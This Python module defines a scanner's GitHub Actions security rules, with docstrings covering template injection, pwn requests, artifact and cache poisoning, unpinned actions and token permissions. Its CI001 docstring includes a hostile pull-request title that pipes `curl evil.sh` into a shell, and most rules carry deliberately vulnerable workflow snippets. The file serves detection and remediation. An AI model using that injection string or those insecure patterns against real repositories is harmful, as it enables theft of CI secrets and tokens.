"""GitHub Actions rules (workflows and action metadata)."""

from __future__ import annotations

import enum
from collections.abc import Mapping
from typing import ClassVar

from outwork.analyzers.pipelines.context import ImageTag, Trigger
from outwork.core.rules import Confidence, Layer, Rule, Severity


class Tainted(enum.Enum):
    """Whose value an expression expands."""

    ATTACKER = "a value an outsider chooses (titles, bodies, comments, a fork's branch name)"
    UNCERTAIN = (
        "a value an outsider may choose (workflow inputs, this repository's branch and tag"
        " names, other event fields, outputs of actions that read them)"
    )


class TemplateInjection(Rule):
    """An attacker-controlled expression is expanded into a shell script or JavaScript code.

    ## What it finds
    `${{ ... }}` expressions in `run:` scripts and in `actions/github-script` code whose value an
    outsider controls: issue and pull-request titles and bodies, comment bodies, branch names,
    commit messages, and values derived from them through `env`, step outputs (`$GITHUB_OUTPUT`)
    and job outputs (`needs.*.outputs.*`). The evidence names the taint path, for example
    `github.event.issue.title -> env.TITLE -> jobs.triage.steps[0].run`. Workflow inputs and
    unknown event fields are reported with low confidence.

    ## Why it matters
    GitHub substitutes expressions into the script text before the shell sees it, so a pull
    request titled `"; curl evil.sh | sh; #` runs the attacker's command with the job's token and
    secrets. This is the most common way repositories leak secrets through their CI.

    ## Example
    ```yaml
    on: issues
    jobs:
      triage:
        runs-on: ubuntu-latest
        steps:
          - run: echo "${{ github.event.issue.title }}"
    ```

    ## Remediation
    Pass the value through an environment variable and quote it in the shell:
    `env: {TITLE: "${{ github.event.issue.title }}"}` then `run: echo "$TITLE"`. Never re-expand
    it with `${{ env.TITLE }}`.

    ## References
    - GitHub Docs, "Security hardening for GitHub Actions: understanding the risk of script
      injections"
    - zizmor audit `template-injection`
    - CWE-94: Improper Control of Generation of Code ('Code Injection')
    """

    code = "CI001"
    name = "template-injection"
    layer = Layer.CI
    severity = Severity.HIGH
    confidence = Confidence.HIGH
    severities: ClassVar[Mapping[enum.Enum, Severity]] = {
        Tainted.ATTACKER: Severity.HIGH,
        Tainted.UNCERTAIN: Severity.MEDIUM,
    }
    cwe = (94, 78)
    attack = ("T1059",)


class UntrustedCheckout(Rule):
    """A privileged workflow checks out and so runs code from a pull request ("pwn request").

    ## What it finds
    Jobs of workflows triggered by `pull_request_target`, `workflow_run` or `issue_comment`
    that check out the pull request's head (`ref: ${{ github.event.pull_request.head.sha }}`,
    `refs/pull/N/merge`, `github.head_ref`, `workflow_run.head_sha`, `gh pr checkout`,
    `git fetch origin pull/...`).

    ## Why it matters
    These triggers run with the base repository's secrets and a write token. Once the fork's
    code is on disk, any build step, test runner or local action executes it with those
    privileges.

    ## Example
    ```yaml
    on: pull_request_target
    jobs:
      test:
        steps:
          - uses: actions/checkout@v4
            with:
              ref: ${{ github.event.pull_request.head.sha }}
    ```

    ## Remediation
    Use `pull_request` for anything that builds or tests the contribution. If a privileged
    follow-up is needed, split it: an unprivileged `pull_request` workflow uploads results and a
    `workflow_run` workflow consumes them as data, never as code.

    ## References
    - GitHub Security Lab, "Keeping your GitHub Actions and workflows secure: Preventing pwn
      requests"
    - zizmor audit `dangerous-triggers`
    - CWE-829: Inclusion of Functionality from Untrusted Control Sphere
    """

    code = "CI002"
    name = "untrusted-checkout-in-privileged-workflow"
    layer = Layer.CI
    severity = Severity.CRITICAL
    confidence = Confidence.HIGH
    cwe = (829,)
    attack = ("T1195.002",)


class DangerousTrigger(Rule):
    """The workflow uses a trigger that runs with secrets on events outsiders can cause.

    ## What it finds
    `pull_request_target`, `workflow_run` and `issue_comment` triggers. They are reported even
    without an untrusted checkout (that case is CI002) because they are almost never needed and
    are easy to turn into a pwn request by a later edit.

    ## Why it matters
    All three run in the context of the base repository with access to secrets and a write
    token, while the event is caused by an outsider: a fork's pull request or anyone's comment.

    ## Example
    ```yaml
    on:
      pull_request_target:
    ```

    ## Remediation
    Prefer `pull_request`. Where a privileged trigger is required, never check out or execute the
    contribution, and keep permissions and secrets to the minimum.

    ## References
    - GitHub Docs, "Events that trigger workflows: pull_request_target"
    - zizmor audit `dangerous-triggers`
    - CWE-829: Inclusion of Functionality from Untrusted Control Sphere
    """

    code = "CI003"
    name = "dangerous-trigger"
    layer = Layer.CI
    severity = Severity.MEDIUM
    confidence = Confidence.LOW
    cwe = (829,)


class Grant(enum.Enum):
    """What the token is given."""

    WRITE_ALL = "permissions: write-all"
    READ_ALL = "permissions: read-all on a job"
    HIGH_RISK_WRITE = "write to a high-risk scope at workflow level, for several jobs"
    WRITE = "write to another scope at workflow level, for several jobs"
    DEFAULT = "no permissions block: the repository's default token permissions"


class ExcessivePermissions(Rule):
    """The `GITHUB_TOKEN` is given more power than the job needs, or the default is left in place.

    ## What it finds
    `permissions: write-all`, write scopes granted at workflow level (every job gets them), and
    jobs with no `permissions` block in a workflow without one (the repository default applies,
    which is read-write in older repositories and organisations).

    ## Why it matters
    Any compromise of a job (an injected command, a malicious action) acts with the token's
    permissions: pushing code, publishing releases, approving pull requests.

    ## Example
    ```yaml
    permissions: write-all
    ```

    ## Remediation
    Set `permissions: {}` or `contents: read` at the top and grant write scopes per job, only
    where needed.

    ## References
    - GitHub Docs, "Assigning permissions to jobs"
    - zizmor audit `excessive-permissions`
    - CWE-250: Execution with Unnecessary Privileges
    """

    code = "CI004"
    name = "excessive-token-permissions"
    layer = Layer.CI
    severity = Severity.MEDIUM
    confidence = Confidence.MEDIUM
    severities: ClassVar[Mapping[enum.Enum, Severity]] = {
        Grant.WRITE_ALL: Severity.HIGH,
        Grant.READ_ALL: Severity.MEDIUM,
        Grant.HIGH_RISK_WRITE: Severity.HIGH,
        Grant.WRITE: Severity.MEDIUM,
        Grant.DEFAULT: Severity.MEDIUM,
    }
    cwe = (250, 272)


class Publisher(enum.Enum):
    """Who publishes the action."""

    FIRST_PARTY = "GitHub (actions/*, github/*)"
    THIRD_PARTY = "anyone else"


class UnpinnedAction(Rule):
    """An action or reusable workflow is referenced by a tag or branch instead of a commit SHA.

    ## What it finds
    `uses:` references whose ref is not a full 40-character commit hash (`@v4`, `@main`), or
    that have no ref at all, including `docker://` images without a digest. Local actions
    (`./path`) are not reported.

    ## Why it matters
    Tags and branches are mutable. In March 2025 the `tj-actions/changed-files` tags were moved
    to a malicious commit that dumped secrets from the logs of thousands of repositories.

    ## Example
    ```yaml
    - uses: tj-actions/changed-files@v45
    ```

    ## Remediation
    Pin to the full commit SHA and keep the tag as a comment
    (`uses: actions/checkout@11bd71901bbe5b1630ceea73d27597364c9af683 # v4.2.2`); let Dependabot
    or Renovate update the pins.

    ## References
    - GitHub Docs, "Using third-party actions: pin actions to a full-length commit SHA"
    - CISA alert on tj-actions/changed-files (CVE-2025-30066)
    - zizmor audit `unpinned-uses`
    - CWE-829: Inclusion of Functionality from Untrusted Control Sphere
    """

    code = "CI005"
    name = "unpinned-action-reference"
    layer = Layer.CI
    severity = Severity.HIGH
    confidence = Confidence.HIGH
    severities: ClassVar[Mapping[enum.Enum, Severity]] = {
        Publisher.FIRST_PARTY: Severity.MEDIUM,
        Publisher.THIRD_PARTY: Severity.HIGH,
    }
    cwe = (829, 494)
    attack = ("T1195.001",)


class UnpinnedImage(Rule):
    """A job container or service image is referenced without a digest.

    ## What it finds
    `container:` and `services.*.image` values (and Docker action images) without an
    `@sha256:` digest; images with no tag or `latest` are reported at high severity.

    ## Why it matters
    Whoever controls the tag controls the code the job runs, with its secrets and token.

    ## Example
    ```yaml
    container: node:latest
    ```

    ## Remediation
    Pin images by digest (`node:20@sha256:...`) and update the digest with a bot.

    ## References
    - zizmor audit `unpinned-images`
    - CWE-829: Inclusion of Functionality from Untrusted Control Sphere
    """

    code = "CI006"
    name = "unpinned-container-image"
    layer = Layer.CI
    severity = Severity.MEDIUM
    confidence = Confidence.HIGH
    severities: ClassVar[Mapping[enum.Enum, Severity]] = {
        ImageTag.MOVING: Severity.HIGH,
        ImageTag.TAGGED: Severity.MEDIUM,
    }
    cwe = (829, 494)


class Workspace(enum.Enum):
    """Where the checked-out workspace, with the token in ``.git/config``, goes."""

    UPLOADED = "the job uploads its workspace as an artifact"
    KEPT = "the workspace stays on the runner"


class PersistedCheckoutCredentials(Rule):
    """`actions/checkout` leaves the job's token in `.git/config` for every later step.

    ## What it finds
    Checkout steps without `persist-credentials: false`. When a later step uploads the
    workspace as an artifact, the token is published with it and the finding is raised to high.

    ## Why it matters
    Every later step, including third-party actions and build scripts, can read the token; an
    uploaded workspace leaks it to anyone who can download the artifact ("ArtiPACKED").

    ## Example
    ```yaml
    - uses: actions/checkout@v4
    ```

    ## Remediation
    Add `with: {persist-credentials: false}` and pass a token explicitly to the one step that
    pushes.

    ## References
    - Palo Alto Unit 42, "ArtiPACKED: Hacking Giants Through a Race Condition in GitHub Actions
      Artifacts"
    - zizmor audit `artipacked`
    - CWE-522: Insufficiently Protected Credentials
    """

    code = "CI007"
    name = "persisted-checkout-credentials"
    layer = Layer.CI
    severity = Severity.MEDIUM
    confidence = Confidence.LOW
    severities: ClassVar[Mapping[enum.Enum, Severity]] = {
        Workspace.UPLOADED: Severity.HIGH,
        Workspace.KEPT: Severity.MEDIUM,
    }
    cwe = (522,)


class GithubEnvInjection(Rule):
    """A privileged workflow writes untrusted data into `GITHUB_ENV` or `GITHUB_PATH`.

    ## What it finds
    Scripts that append to `$GITHUB_ENV` or `$GITHUB_PATH` in workflows triggered by
    `pull_request_target`, `workflow_run` or `issue_comment`, or anywhere the written value
    carries attacker-controlled data.

    ## Why it matters
    Lines written to `GITHUB_ENV` become environment variables of every later step: an attacker
    who controls one can set `LD_PRELOAD`, `NODE_OPTIONS` or `BASH_ENV` and run code; a
    controlled `GITHUB_PATH` entry shadows any tool.

    ## Example
    ```yaml
    on: workflow_run
    steps:
      - run: echo "PR_TITLE=$(cat artifact/title)" >> "$GITHUB_ENV"
    ```

    ## Remediation
    Keep untrusted values in step outputs or files and validate them; never write them to
    `GITHUB_ENV`/`GITHUB_PATH`.

    ## References
    - GitHub Security Lab, "GitHub Actions: environment variable injection"
    - zizmor audit `github-env`
    - CWE-454: External Initialization of Trusted Variables or Data Stores
    """

    code = "CI008"
    name = "github-env-injection"
    layer = Layer.CI
    severity = Severity.HIGH
    confidence = Confidence.MEDIUM
    severities: ClassVar[Mapping[enum.Enum, Severity]] = {
        **dict.fromkeys(Trigger, Severity.MEDIUM),
        Trigger.PRIVILEGED_PULL_REQUEST: Severity.HIGH,
        Trigger.PRIVILEGED_FOLLOW_UP: Severity.HIGH,
        Trigger.PRIVILEGED_EVENT: Severity.HIGH,
        Trigger.ACTION: Severity.HIGH,
    }
    cwe = (454, 78)


class SecretsInherit(Rule):
    """A reusable workflow is called with `secrets: inherit`.

    ## What it finds
    Jobs that call a reusable workflow and pass every secret of the caller to it.

    ## Why it matters
    The called workflow (often in another repository, often unpinned) receives all secrets,
    whether it needs them or not; a compromise there leaks everything.

    ## Example
    ```yaml
    jobs:
      call:
        uses: org/shared/.github/workflows/build.yml@main
        secrets: inherit
    ```

    ## Remediation
    Pass only the secrets the workflow needs, by name.

    ## References
    - GitHub Docs, "Reusing workflows: passing secrets"
    - zizmor audit `secrets-inherit`
    - CWE-200: Exposure of Sensitive Information to an Unauthorized Actor
    """

    code = "CI009"
    name = "secrets-inherit"
    layer = Layer.CI
    severity = Severity.MEDIUM
    confidence = Confidence.HIGH
    cwe = (200, 272)


class SelfHostedRunnerPublic(Rule):
    """A self-hosted runner runs jobs that outsiders can trigger.

    ## What it finds
    Jobs with `runs-on: self-hosted` (or a label list containing it, or a runner group) in
    workflows triggered by pull requests, comments, issues or `workflow_run`. Labels that name no
    GitHub-hosted runner image are reported with low confidence: they are usually self-hosted
    runners, sometimes GitHub's larger runners.

    ## Why it matters
    Self-hosted runners are usually not ephemeral: a fork's pull request can plant persistence
    on the machine and read what later, trusted jobs handle, or pivot into the internal network.

    ## Example
    ```yaml
    on: pull_request
    jobs:
      test:
        runs-on: [self-hosted, linux]
    ```

    ## Remediation
    Use GitHub-hosted or ephemeral, isolated runners for public triggers; require approval for
    fork pull requests.

    ## References
    - GitHub Docs, "Self-hosted runner security"
    - zizmor audit `self-hosted-runner`
    - CWE-668: Exposure of Resource to Wrong Sphere
    """

    code = "CI010"
    name = "self-hosted-runner-public-trigger"
    layer = Layer.CI
    severity = Severity.HIGH
    confidence = Confidence.MEDIUM
    severities: ClassVar[Mapping[enum.Enum, Severity]] = {
        **dict.fromkeys(Trigger, Severity.MEDIUM),
        Trigger.PRIVILEGED_PULL_REQUEST: Severity.HIGH,
        Trigger.PULL_REQUEST: Severity.HIGH,
    }
    cwe = (668,)


class BotConditionSpoofable(Rule):
    """A condition trusts `github.actor` to identify a bot.

    ## What it finds
    `if:` conditions comparing `github.actor` or `github.triggering_actor` with a `[bot]`
    account (`dependabot[bot]`, `renovate[bot]`).

    ## Why it matters
    `github.actor` is whoever caused the latest event, not the author of the pull request: an
    attacker can make the bot act on their branch (for example with `@dependabot recreate`)
    and pass the check.

    ## Example
    ```yaml
    if: github.actor == 'dependabot[bot]'
    ```

    ## Remediation
    Check the pull request's author (`github.event.pull_request.user.login`) and use the
    `pull_request` trigger for bot automation.

    ## References
    - Synacktiv, "GitHub Actions exploitation: Dependabot"
    - zizmor audit `bot-conditions`
    - CWE-290: Authentication Bypass by Spoofing
    """

    code = "CI011"
    name = "spoofable-bot-condition"
    layer = Layer.CI
    severity = Severity.HIGH
    confidence = Confidence.MEDIUM
    severities: ClassVar[Mapping[enum.Enum, Severity]] = {
        **dict.fromkeys(Trigger, Severity.MEDIUM),
        Trigger.PRIVILEGED_PULL_REQUEST: Severity.HIGH,
        Trigger.PULL_REQUEST: Severity.HIGH,
        Trigger.PRIVILEGED_FOLLOW_UP: Severity.HIGH,
    }
    cwe = (290,)


class ArtifactPoisoning(Rule):
    """A privileged workflow downloads an artifact from an untrusted run and uses it unsafely.

    ## What it finds
    Jobs triggered by `workflow_run` (or `pull_request_target`) that download artifacts of
    another run (`actions/download-artifact` with `run-id`, `dawidd6/action-download-artifact`,
    `gh run download`) into the workspace and then execute commands, or that extract them with
    `unzip`/`tar` over the working tree.

    ## Why it matters
    The artifact was produced by the fork's code in an unprivileged run. Extracted over the
    checkout, it replaces scripts and configuration that the privileged job then executes with
    secrets.

    ## Example
    ```yaml
    on: workflow_run
    steps:
      - uses: actions/download-artifact@v4
        with: {run-id: "${{ github.event.workflow_run.id }}", github-token: "${{ github.token }}"}
      - run: ./scripts/report.sh
    ```

    ## Remediation
    Download into `${{ runner.temp }}`, treat every file as data, validate it, and never let it
    overwrite code or feed `GITHUB_ENV`.

    ## References
    - GitHub Security Lab, "Keeping your GitHub Actions and workflows secure Part 1" (artifact
      poisoning)
    - Legit Security, "Artifact poisoning in GitHub Actions"
    - CWE-494: Download of Code Without Integrity Check
    """

    code = "CI012"
    name = "artifact-poisoning"
    layer = Layer.CI
    severity = Severity.HIGH
    confidence = Confidence.MEDIUM
    cwe = (494, 829)
    attack = ("T1195.002",)


class LivingOffThePipeline(Rule):
    """After an untrusted checkout, a tool runs configuration the pull request controls.

    ## What it finds
    Steps that follow a checkout of a pull request's code in a privileged workflow and run tools
    that execute repository-controlled configuration: `npm install`/`npm ci`/`yarn`, `pip
    install .`, `make`, `pre-commit`, `pytest`/`tox`/`nox`, `cargo build`, `go generate`,
    Gradle and Maven wrappers, repository scripts and local actions (`uses: ./...`).

    ## Why it matters
    No `run:` line needs to mention the attacker's code: `package.json` lifecycle scripts,
    `setup.py`, `conftest.py`, `Makefile` and build scripts come from the fork and run with the
    privileged job's secrets.

    ## Example
    ```yaml
    on: pull_request_target
    steps:
      - uses: actions/checkout@v4
        with: {ref: "${{ github.event.pull_request.head.sha }}"}
      - run: npm ci
    ```

    ## Remediation
    Do not build or test untrusted code in privileged workflows; move it to `pull_request`.

    ## References
    - BoostSecurity, "Living Off the Pipeline" (LOTP) catalogue
    - CWE-829: Inclusion of Functionality from Untrusted Control Sphere
    """

    code = "CI013"
    name = "living-off-the-pipeline"
    layer = Layer.CI
    severity = Severity.CRITICAL
    confidence = Confidence.HIGH
    cwe = (829, 94)
    attack = ("T1195.002",)


class CloudCredentialsForkCode(Rule):
    """Cloud credentials are available to a job that runs a fork's code.

    ## What it finds
    Jobs that check out untrusted code in a privileged workflow and also hold cloud credentials:
    `id-token: write` (OIDC), `role-to-assume`, `workload_identity_provider`, Azure login, or
    cloud keys from secrets.

    ## Why it matters
    The fork's code can mint an OIDC token or read the assumed role's session and act in the
    cloud account: the path from a pull request to production.

    ## Example
    ```yaml
    on: pull_request_target
    permissions: {id-token: write}
    steps:
      - uses: actions/checkout@v4
        with: {ref: "${{ github.event.pull_request.head.sha }}"}
      - uses: aws-actions/configure-aws-credentials@v4
        with: {role-to-assume: arn:aws:iam::123456789012:role/deploy}
    ```

    ## Remediation
    Never combine untrusted code and cloud credentials in one job; restrict the cloud role's
    trust policy to protected branches and environments.

    ## References
    - GitHub Docs, "Security hardening with OpenID Connect"
    - CWE-522: Insufficiently Protected Credentials
    """

    code = "CI014"
    name = "cloud-credentials-exposed-to-fork-code"
    layer = Layer.CI
    severity = Severity.CRITICAL
    confidence = Confidence.HIGH
    cwe = (522, 269)
    attack = ("T1078.004",)


class CachePoisoning(Rule):
    """A release or publishing workflow restores a cache that less trusted runs can write.

    ## What it finds
    Workflows triggered by tags or releases, or that publish packages or images, and that
    restore a cache (`actions/cache`, `cache:` on setup actions, `setup-go`'s default cache,
    `Swatinem/rust-cache`, `setup-uv` with `enable-cache`).

    ## Why it matters
    Caches are shared across branches of a repository: a pull request workflow can write a
    poisoned entry that the release build restores, putting the attacker's code into the
    published artifact.

    ## Example
    ```yaml
    on: {release: {types: [published]}}
    steps:
      - uses: actions/setup-node@v4
        with: {cache: npm}
    ```

    ## Remediation
    Disable caching in release and publishing workflows.

    ## References
    - Adnan Khan, "The Monsters in Your Build Cache: GitHub Actions Cache Poisoning"
    - zizmor audit `cache-poisoning`
    - CWE-349: Acceptance of Extraneous Untrusted Data With Trusted Data
    """

    code = "CI015"
    name = "cache-poisoning-in-release"
    layer = Layer.CI
    severity = Severity.HIGH
    confidence = Confidence.LOW
    cwe = (349,)


class HardcodedContainerCredentials(Rule):
    """A container or service registry password is written in the workflow.

    ## What it finds
    `container.credentials.password` and `services.*.credentials.password` given as a literal
    rather than a `${{ secrets.* }}` expression.

    ## Why it matters
    The workflow file is readable by everyone who can read the repository, and forks copy it.

    ## Example
    ```yaml
    container:
      image: registry.example.com/app
      credentials: {username: ci, password: hunter2}
    ```

    ## Remediation
    Revoke the password and read it from a secret.

    ## References
    - zizmor audit `hardcoded-container-credentials`
    - CWE-798: Use of Hard-coded Credentials
    """

    code = "CI016"
    name = "hardcoded-container-credentials"
    layer = Layer.CI
    severity = Severity.HIGH
    confidence = Confidence.HIGH
    cwe = (798,)


class InsecureCommands(Rule):
    """The deprecated `set-env`/`add-path` workflow commands are re-enabled.

    ## What it finds
    `ACTIONS_ALLOW_UNSECURE_COMMANDS` set to true in any `env` block.

    ## Why it matters
    With these commands enabled, any output line that reaches the log (a test name, a file
    name, a commit message) can set environment variables such as `NODE_OPTIONS` for later
    steps, which is code execution.

    ## Example
    ```yaml
    env:
      ACTIONS_ALLOW_UNSECURE_COMMANDS: true
    ```

    ## Remediation
    Remove the variable and write to `$GITHUB_ENV`/`$GITHUB_PATH` files instead.

    ## References
    - GitHub changelog, "Deprecating set-env and add-path commands" (CVE-2020-15228)
    - zizmor audit `insecure-commands`
    - CWE-77: Improper Neutralization of Special Elements used in a Command
    """

    code = "CI017"
    name = "insecure-workflow-commands"
    layer = Layer.CI
    severity = Severity.HIGH
    confidence = Confidence.HIGH
    cwe = (77,)


class Unsound(enum.Enum):
    """How the condition fails."""

    TEXT_AROUND_EXPRESSION = "text outside `${{ }}`: a non-empty string, always true"
    CONTAINS_LITERAL = "contains() on a literal string: any substring matches"


class UnsoundCondition(Rule):
    """An `if:` condition is always true, or matches far more than intended.

    ## What it finds
    Conditions where an expression is mixed with literal text (a block scalar `|` that adds a
    newline, `${{ a }} && ${{ b }}`): the result is a non-empty string, which is true. Also
    `contains('literal string', context)`, which matches any substring.

    ## Why it matters
    Guards such as "only on the main repository" or "only for maintainers" silently stop
    guarding.

    ## Example
    ```yaml
    if: |
      ${{ github.event_name == 'push' }}
    ```

    ## Remediation
    Write the whole condition as one expression (`if: github.event_name == 'push'`); compare
    against a list with `contains(fromJSON('["a","b"]'), x)`.

    ## References
    - zizmor audits `unsound-condition` and `unsound-contains`
    - CWE-697: Incorrect Comparison
    """

    code = "CI018"
    name = "unsound-condition"
    layer = Layer.CI
    severity = Severity.HIGH
    confidence = Confidence.HIGH
    severities: ClassVar[Mapping[enum.Enum, Severity]] = {
        Unsound.TEXT_AROUND_EXPRESSION: Severity.HIGH,
        Unsound.CONTAINS_LITERAL: Severity.MEDIUM,
    }
    cwe = (697, 570)


class ObfuscatedExpression(Rule):
    """An action reference or expression is written in a needlessly indirect way.

    ## What it finds
    `uses:` paths with `.`/`..` or empty components (`actions/checkout/./@v4`), and
    expressions that only evaluate literals or index contexts with literal strings
    (`${{ 'a' }}`, `github['event']`).

    ## Why it matters
    Such forms hide what a workflow really does from reviewers and from tools that match plain
    spellings; they have no legitimate use.

    ## Example
    ```yaml
    - uses: actions/checkout/./@v4
    ```

    ## Remediation
    Write the plain form.

    ## References
    - zizmor audit `obfuscation`
    - CWE-506: Embedded Malicious Code
    """

    code = "CI019"
    name = "obfuscated-expression"
    layer = Layer.CI
    severity = Severity.LOW
    confidence = Confidence.HIGH
    cwe = (506,)


class TyposquattedAction(Rule):
    """An action's name is one typo away from a popular action.

    ## What it finds
    `uses:` owners or repositories at edit distance one from a well-known action
    (`actons/checkout`, `actions/chekout`), or spelled with look-alike characters.

    ## Why it matters
    Typosquatted actions run with the job's token and secrets; attackers register such names
    and wait for a typo.

    ## Example
    ```yaml
    - uses: action/checkout@v4
    ```

    ## Remediation
    Fix the name; pin the real action by commit SHA.

    ## References
    - Orca Security, "Typosquatting in GitHub Actions"
    - CWE-1357: Reliance on Insufficiently Trustworthy Component
    """

    code = "CI020"
    name = "typosquatted-action"
    layer = Layer.CI
    severity = Severity.HIGH
    confidence = Confidence.MEDIUM
    cwe = (1357, 829)
    attack = ("T1195.001",)


class Unreadable(enum.Enum):
    """Why the file could not be read."""

    SYNTAX = "not YAML this reader accepts"
    OVERSIZED = "larger than the byte budget"
    BUDGET = "past the reader's node or nesting budget (an alias bomb, deep nesting)"


class PipelineUnreadable(Rule):
    """A pipeline file cannot be read: invalid YAML, too large, or an alias bomb.

    ## What it finds
    Workflows, actions, Dependabot and GitLab CI files that do not parse, or that exceed the
    reader's budgets (size, nesting, nodes after alias expansion).

    ## Why it matters
    outwork fails closed: a file that cannot be analysed is not declared safe. Alias bombs are
    also a way to knock out tools that read pipelines.

    ## Example
    A workflow with nine levels of `&a [*a, *a, ...]` anchors expanding to a billion nodes.

    ## Remediation
    Fix the syntax; remove the nested aliases.

    ## References
    - CWE-776: Improper Restriction of Recursive Entity References ('Billion Laughs')
    - CWE-20: Improper Input Validation
    """

    code = "CI023"
    name = "pipeline-unreadable"
    layer = Layer.CI
    severity = Severity.MEDIUM
    confidence = Confidence.MEDIUM
    severities: ClassVar[Mapping[enum.Enum, Severity]] = {
        Unreadable.SYNTAX: Severity.MEDIUM,
        Unreadable.OVERSIZED: Severity.MEDIUM,
        Unreadable.BUDGET: Severity.HIGH,
    }
    cwe = (776, 20)


class LongLivedPublishToken(Rule):
    """A package is published with a long-lived token where trusted publishing is available.

    ## What it finds
    Publishing steps that authenticate with a stored token: `pypa/gh-action-pypi-publish` with
    `password:`, `twine upload` with `TWINE_PASSWORD`, `npm publish` with `NODE_AUTH_TOKEN`,
    `cargo publish` with a token, `gem push` with an API key.

    ## Why it matters
    A long-lived registry token that leaks (through any of the other findings here) lets the
    thief publish versions from anywhere, for months. Trusted publishing (OIDC) issues a
    short-lived token bound to this workflow.

    ## Example
    ```yaml
    - uses: pypa/gh-action-pypi-publish@release/v1
      with: {password: "${{ secrets.PYPI_TOKEN }}"}
    ```

    ## Remediation
    Configure trusted publishing on the registry and drop the secret.

    ## References
    - PyPI Docs, "Trusted Publishers"; npm Docs, "Trusted publishing"
    - zizmor audit `use-trusted-publishing`
    - CWE-798: Use of Hard-coded Credentials
    """

    code = "CI024"
    name = "long-lived-publish-token"
    layer = Layer.CI
    severity = Severity.INFO
    confidence = Confidence.HIGH
    cwe = (798, 522)


class UndocumentedPermissions(Rule):
    """A write scope of the token is granted without a comment saying why.

    ## What it finds
    `permissions:` entries with `write` (at workflow or job level) that have no comment on their
    line explaining what needs them.

    ## Why it matters
    Undocumented write scopes are never removed: nobody dares to, because nobody knows which step
    needs them. A one-line reason keeps the token's power reviewable.

    ## Example
    ```yaml
    permissions:
      contents: write
    ```

    ## Remediation
    Add the reason on the line: `contents: write  # push the changelog commit`.

    ## References
    - zizmor audit `undocumented-permissions`
    - CWE-1059: Insufficient Technical Documentation
    """

    code = "CI025"
    name = "undocumented-token-permissions"
    layer = Layer.CI
    severity = Severity.INFO
    confidence = Confidence.HIGH
    cwe = (1059, 250)


class AllSecretsExposed(Rule):
    """Every secret of the repository is serialised into one step.

    ## What it finds
    `toJSON(secrets)` anywhere in a workflow: in `env`, `with` inputs or scripts.

    ## Why it matters
    The step (and every tool it runs) receives all secrets, including ones it never needs; one
    compromised dependency leaks them all, and the JSON blob defeats per-secret log masking of
    derived values.

    ## Example
    ```yaml
    env:
      ALL: ${{ toJSON(secrets) }}
    ```

    ## Remediation
    Pass only the secrets the step needs, one by one.

    ## References
    - zizmor audit `overprovisioned-secrets`
    - CWE-200: Exposure of Sensitive Information to an Unauthorized Actor
    """

    code = "CI026"
    name = "all-secrets-exposed"
    layer = Layer.CI
    severity = Severity.MEDIUM
    confidence = Confidence.HIGH
    cwe = (200, 250)


class SecretFieldUnredacted(Rule):
    """A field is read out of a JSON secret, so its value is not masked in logs.

    ## What it finds
    `fromJSON(secrets.NAME).field` and similar accesses into structured secrets.

    ## Why it matters
    GitHub masks the exact string of a secret in logs, not substrings derived from it: a field
    extracted from a JSON secret is printed in clear if any step echoes it.

    ## Example
    ```yaml
    env:
      PASSWORD: ${{ fromJSON(secrets.DB).password }}
    ```

    ## Remediation
    Store each credential as its own secret.

    ## References
    - zizmor audit `unredacted-secrets`
    - CWE-532: Insertion of Sensitive Information into Log File
    """

    code = "CI027"
    name = "secret-field-unredacted"
    layer = Layer.CI
    severity = Severity.MEDIUM
    confidence = Confidence.HIGH
    cwe = (532,)


class ArchivedAction(Rule):
    """An action from an archived repository is used.

    ## What it finds
    `uses:` references to actions whose repositories have been archived by their owners
    (`actions/create-release`, `actions-rs/toolchain`, ...).

    ## Why it matters
    Archived actions receive no security fixes; their dependencies age and their known issues
    stay open. Some have been taken over after their owners left.

    ## Example
    ```yaml
    - uses: actions-rs/toolchain@v1
    ```

    ## Remediation
    Replace the action with a maintained one or a few lines of script.

    ## References
    - zizmor audit `archived-uses`
    - CWE-1104: Use of Unmaintained Third Party Components
    """

    code = "CI028"
    name = "archived-action"
    layer = Layer.CI
    severity = Severity.MEDIUM
    confidence = Confidence.HIGH
    cwe = (1104,)
